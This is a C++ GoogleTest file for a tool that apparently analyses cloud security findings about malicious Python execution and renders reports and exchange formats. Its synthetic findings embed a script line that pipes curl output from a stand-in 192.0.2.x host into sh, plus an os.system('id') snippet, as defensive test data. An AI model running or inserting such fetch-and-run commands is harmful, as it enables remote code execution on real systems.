#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <nlohmann/json.hpp>
#include <random>
#include <set>
#include <string>
#include <vector>

#include "exchange/exchange.h"
#include "pyverdict.h"
#include "report/report.h"
#include "summary/summary.h"

namespace pyverdict {
namespace {

using Json = nlohmann::json;

const std::filesystem::path kCases = std::filesystem::path(PYVERDICT_TEST_CASES) / "findings";

std::string file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

/// There is always a report; one that found nothing to read says so; every form of it can be written.
void expect_no_silence(std::string_view input, const Options& options = {}) {
  const Analysis analysis = analyze(input, options);
  ASSERT_FALSE(analysis.items.empty());
  std::vector<const report::Report*> reports;
  for (const Item& item : analysis.items) {
    const report::Report& report = item.report;
    reports.push_back(&report);
    EXPECT_TRUE(report.finding || report.input.script.size > 0 || !report.diagnostics.empty() ||
                input.empty());
    if (options.as == As::Finding && !report.finding) EXPECT_FALSE(report.diagnostics.empty());
    if (report.finding && report.input.script.size == 0) EXPECT_FALSE(report.diagnostics.empty());
    EXPECT_FALSE(report.verdict.summary.empty());
    EXPECT_TRUE(Json::accept(report::to_json(report)));
    EXPECT_FALSE(report::to_markdown(report).empty());
    for (const report::Related& related : report.related) EXPECT_LT(related.report, analysis.items.size());
  }
  const summary::Summary summary = summary::summarise(reports);
  EXPECT_EQ(summary.reports, analysis.items.size());
  EXPECT_TRUE(Json::accept(summary::to_json(summary)));
  for (const char* format : {"sarif", "stix", "navigator", "misp"}) {
    EXPECT_TRUE(Json::accept(exchange::writer(format)(reports))) << format;
  }
}

/// Any JSON value, with the names of findings more often than others.
class AnyJson {
 public:
  explicit AnyJson(unsigned seed) : random_(seed) {}

  Json value(int depth) {
    switch (below(depth > 0 ? 8 : 5)) {
      case 0:
        return nullptr;
      case 1:
        return below(2) == 0;
      case 2:
        return Json::array({0, -1, 1.5, 1e300, 18446744073709551615ull}).at(below(5));
      case 3:
      case 4:
        return kTexts[below(kTexts.size())];
      case 5:
      case 6: {
        Json object = Json::object();
        for (std::size_t i = below(6); i > 0; --i) object[kNames[below(kNames.size())]] = value(depth - 1);
        return object;
      }
      default: {
        Json array = Json::array();
        for (std::size_t i = below(4); i > 0; --i) array.push_back(value(depth - 1));
        return array;
      }
    }
  }

 private:
  std::size_t below(std::size_t bound) {
    return std::uniform_int_distribution<std::size_t>(0, bound - 1)(random_);
  }

  inline static const std::vector<std::string> kNames = {"finding",
                                                         "findings",
                                                         "resource",
                                                         "processes",
                                                         "script",
                                                         "contents",
                                                         "sha256",
                                                         "size",
                                                         "args",
                                                         "binary",
                                                         "path",
                                                         "libraries",
                                                         "envVariables",
                                                         "name",
                                                         "category",
                                                         "eventTime",
                                                         "severity",
                                                         "containers",
                                                         "kubernetes",
                                                         "pods",
                                                         "files",
                                                         "mitreAttack",
                                                         "indicator",
                                                         "uris",
                                                         "domains",
                                                         "ipAddresses",
                                                         "connections",
                                                         "message",
                                                         "data",
                                                         "pid",
                                                         "parentPid",
                                                         "hashedSize",
                                                         "jsonPayload",
                                                         "listFindingsResults",
                                                         "mute",
                                                         "sourceProperties",
                                                         "destinationIp",
                                                         "x",
                                                         "",
                                                         "securityMarks"};
  inline static const std::vector<std::string> kTexts = {
      "",
      "x",
      "Execution: Malicious Python executed",
      "import os\nos.system('id')\n",
      "organizations/1/sources/2/findings/a",
      "//run.googleapis.com/projects/p/locations/l/services/s",
      "2026-01-01T00:00:00Z",
      "/tmp/x",
      "http://192.0.2.1/x",
      "eyJmaW5kaW5nIjp7fX0=",
      "{\"finding\": {",
      std::string("\0\x01\xEF\xBF\xBE", 5)};

  std::mt19937 random_;
};

TEST(FindingProperties, AnyJsonValueGivesAReport) {
  for (unsigned seed = 0; seed < 250; ++seed) {
    SCOPED_TRACE(seed);
    const std::string text = AnyJson(seed).value(6).dump(-1, ' ', false, Json::error_handler_t::replace);
    expect_no_silence(text);
    expect_no_silence(text, {.as = As::Finding});
  }
}

TEST(FindingProperties, AnyTruncationGivesAReport) {
  for (const auto& entry : std::filesystem::directory_iterator(kCases)) {
    const std::string whole = file(entry.path());
    SCOPED_TRACE(entry.path().filename().string());
    const std::size_t step = std::max<std::size_t>(1, whole.size() / 25);
    for (std::size_t size = 0; size < whole.size(); size += step) {
      SCOPED_TRACE(size);
      expect_no_silence(std::string_view(whole).substr(0, size));
    }
  }
}

TEST(FindingProperties, ACutAtAnyPlaceKeepsTheFieldsBeforeIt) {
  const std::string whole = file(kCases / "bare.json");
  const std::size_t category = whole.find("Malicious Python executed\"") + 26;
  const std::size_t processes = whole.find("\"contents\"");
  ASSERT_LT(category, processes);
  for (std::size_t size = processes; size < whole.size(); size += 7) {
    SCOPED_TRACE(size);
    const Analysis analysis = analyze(std::string_view(whole).substr(0, size));
    ASSERT_TRUE(analysis.items.front().report.finding);
    EXPECT_EQ(analysis.items.front().report.finding->category, "Execution: Malicious Python executed");
  }
}

/// Every string in a JSON value, and in JSON that its strings hold.
void collect(const Json& value, std::set<std::string>& out) {
  if (value.is_string()) {
    const std::string& text = value.get_ref<const std::string&>();
    out.insert(text);
    const Json inner = Json::parse(text, nullptr, false);
    if (inner.is_structured() || inner.is_string()) collect(inner, out);
  }
  if (value.is_structured()) {
    for (const auto& item : value) collect(item, out);
  }
}

TEST(FindingProperties, PublishedSamplesAreReadWithoutLoss) {
  const std::filesystem::path samples = kCases / "../../../../shared/samples";
  if (!std::filesystem::exists(samples)) GTEST_SKIP() << samples << " is not here";
  for (const auto& entry : std::filesystem::directory_iterator(samples)) {
    SCOPED_TRACE(entry.path().filename().string());
    const std::string text = file(entry.path());
    const Analysis analysis = analyze(text);
    std::set<std::string> kept;
    for (const Item& item : analysis.items) {
      EXPECT_TRUE(item.report.finding);
      collect(Json::parse(report::to_json(item.report)), kept);
    }
    const Json sample = Json::parse(text, nullptr, false);
    if (sample.is_discarded()) continue;
    std::set<std::string> wanted;
    // What a finding holds and what its resource is; names of wrappers and of places in lists say nothing of
    // it.
    const auto visit = [&](const auto& self, const Json& value) -> void {
      if (value.is_object() && value.contains("finding")) return collect(value["finding"], wanted);
      if (value.is_structured()) {
        for (const auto& item : value) self(self, item);
      }
    };
    visit(visit, sample);
    std::string lost;
    for (const std::string& leaf : wanted) {
      // The name of the marks follows from the finding's.
      if (!leaf.empty() && !leaf.ends_with("/securityMarks") && !kept.contains(leaf))
        lost += leaf.substr(0, 80) + '\n';
    }
    EXPECT_EQ(lost, "");
  }
}

std::string many(std::size_t count, std::size_t scripts) {
  std::string text = "[";
  for (std::size_t i = 0; i < count; ++i) {
    const std::string n = std::to_string(i);
    const Json finding = {
        {"name", "organizations/1/sources/2/findings/" + n},
        {"category", "Execution: Malicious Python executed"},
        {"eventTime",
         "2026-01-01T00:00:" + std::string(i % 60 < 10 ? "0" : "") + std::to_string(i % 60) + "Z"},
        {"resourceName", "//run.googleapis.com/projects/p/locations/l/services/s" + std::to_string(i % 7)},
        {"containers", Json::array({{{"name", "c" + std::to_string(i % 7)}}})},
        {"processes",
         Json::array({{{"name", "python3"},
                       {"pid", n},
                       {"parentPid", i == 0 ? "1" : std::to_string(i - 1)},
                       {"script",
                        {{"path", "/tmp/a.py"},
                         {"contents",
                          "import os\nos.system('curl http://192.0.2." + std::to_string(i % scripts) +
                              "/x | sh')\nfor name in ['alpha', 'beta', 'gamma']:\n    print(name.upper(), "
                              "len(name) * 7)\n"
                              "print('The quick brown fox jumps over the lazy dog.', os.getpid())\n"}}}}})}};
    text += (i > 0 ? "," : "") + Json{{"finding", finding}}.dump();
  }
  return text + "]";
}

TEST(FindingProperties, ManyFindingsAreBoundedAndSummedUp) {
  const Analysis analysis = analyze(many(700, 5));
  ASSERT_EQ(analysis.items.size(), 700u);
  std::vector<const report::Report*> reports;
  for (const Item& item : analysis.items) reports.push_back(&item.report);
  const summary::Summary summary = summary::summarise(reports);
  EXPECT_EQ(summary.scripts.size(), 5u);
  EXPECT_EQ(summary.resources.size(), 7u);
  EXPECT_EQ(summary.families, 1u) << "the scripts differ in one digit";
  for (const Item& item : analysis.items) {
    EXPECT_LE(item.report.related.size(), 10u);
    EXPECT_FALSE(item.report.related.empty());
    EXPECT_TRUE(item.report.response);
  }
}

TEST(FindingProperties, AScriptOfSeveralFindingsIsReadTheSameEachTime) {
  const Analysis together = analyze(many(40, 4), {.features = true});
  for (std::size_t i = 4; i < together.items.size(); ++i) {
    const report::Report& report = together.items[i].report;
    const report::Report& first = together.items[i % 4].report;
    EXPECT_EQ(report.input.script.sha256, first.input.script.sha256);
    EXPECT_EQ(report.verdict.summary, first.verdict.summary);
    EXPECT_EQ(report.evidence.size(), first.evidence.size());
    EXPECT_EQ(report.indicators.size(), first.indicators.size());
    EXPECT_EQ(report.techniques.size(), first.techniques.size());
    EXPECT_EQ(together.items[i].features, together.items[i % 4].features);
    EXPECT_EQ(together.items[i].twin, i % 4);
    EXPECT_NE(report.finding->name, first.finding->name);
  }
}

TEST(FindingProperties, ProgressIsToldToTheEnd) {
  std::vector<std::size_t> told;
  Options options;
  options.progress = [&](std::size_t done, std::size_t total) {
    EXPECT_EQ(total, 200u);
    told.push_back(done);
  };
  analyze(many(200, 3), options);
  ASSERT_GE(told.size(), 3u);
  EXPECT_EQ(told.front(), 0u);
  EXPECT_EQ(told.back(), 200u);
}

}  // namespace
}  // namespace pyverdict
